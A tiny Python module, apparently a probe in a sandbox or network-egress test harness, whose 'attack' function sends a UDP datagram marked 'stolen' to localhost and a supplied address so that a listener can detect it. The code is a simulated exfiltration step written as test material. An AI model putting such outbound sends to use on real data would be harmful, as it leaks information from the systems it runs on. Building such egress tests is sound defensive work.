"""Sends a datagram to a port of the host; the host listens and tells."""
import socket


def attack(args, emit):
    for host in ("127.0.0.1", args["address"]):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                sender.sendto(b"stolen", (host, args["udp_port"]))
        except OSError:
            pass
    return []
